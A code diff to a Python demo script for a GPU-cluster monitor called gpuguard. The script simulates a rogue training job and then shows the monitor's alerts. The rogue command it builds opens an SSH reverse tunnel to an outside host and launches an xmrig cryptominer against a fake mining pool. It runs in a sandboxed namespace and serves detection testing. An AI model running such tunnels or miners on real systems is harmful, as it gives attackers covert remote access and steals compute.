@@ -109,25 +109,27 @@ def run_demo(monitor: bool) -> int:
         with remote_host(tmp) as remote:
             print(f"   outside host {remote.addr} (netns {remote.netns}); fake pool 127.0.0.1:{pool.port}")
             miner = install_miner(tmp, "xmrig")
-            ssh = " ".join(["/usr/bin/ssh", *remote.ssh_args(), "-f", "-N", "-R", "127.0.0.1:2222:127.0.0.1:22",
+            ssh = " ".join(["/usr/bin/ssh", *remote.ssh_args(), "-N", "-R", "127.0.0.1:2222:127.0.0.1:22",
                             f"root@{remote.addr}"])
-            rogue = (f"{ssh}; echo \"agent: ssh -R to {remote.addr} exit=$?\"; sleep 1; "
+            # the rogue command: a reverse tunnel in the background, then a miner; it cleans up
+            # after itself by PID ($T is the tunnel it started)
+            rogue = (f"{ssh} & T=$!; sleep 2; "
+                     f"if kill -0 $T 2>/dev/null; then echo \"agent: reverse tunnel to {remote.addr} is UP\"; "
+                     "else wait $T; echo \"agent: ssh -R exit=$?\"; fi; "
                      f"{miner} -o stratum+tcp://127.0.0.1:{pool.port} -u 4{'B' * 94} -a rx/0; "
-                     "echo \"agent: miner exit=$?\"")
+                     "echo \"agent: miner exit=$?\"; kill $T 2>/dev/null; true")
             say("3/5", f"job {JOB}: training on the GPU, then a reverse tunnel and a miner from inside the job")
             job = cg_base / "slurm" / "uid_0" / f"job_{JOB}" / "step_0"
             job.mkdir(parents=True, exist_ok=True)
             script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
+                      "&& mknod -m 666 /dev/null c 1 3 && mknod -m 666 /dev/urandom c 1 9 "
                       f'&& exec {PYTHON} -c "$0"')
             unshare = shutil.which("unshare") or "/usr/bin/unshare"
             run = run_in_cgroup(job, [unshare, "-m", "/bin/sh", "-c", script, training_program(rogue, ps.port)],
                                 capture_output=True, text=True, timeout=120)
             print(textwrap.indent(run.stdout.strip(), "   "))
-            tunnel_up = remote.listening(2222)
             pool.settle(4)
-            print(f"   outside host sees the reverse tunnel: {'YES' if tunnel_up else 'no'}; "
-                  f"pool got a stratum handshake: {'YES' if pool.got(b'mining.subscribe') else 'no'}")
-            subprocess.run(["pkill", "-f", f"root@{remote.addr}"], check=False)   # the demo's own -f ssh
+            print(f"   fake pool got a stratum handshake: {'YES' if pool.got(b'mining.subscribe') else 'no'}")
         time.sleep(2)
         say("4/5", f"gpuguard alerts --job {JOB}")
         print(cli(port, "alerts", "--job", JOB).stdout)
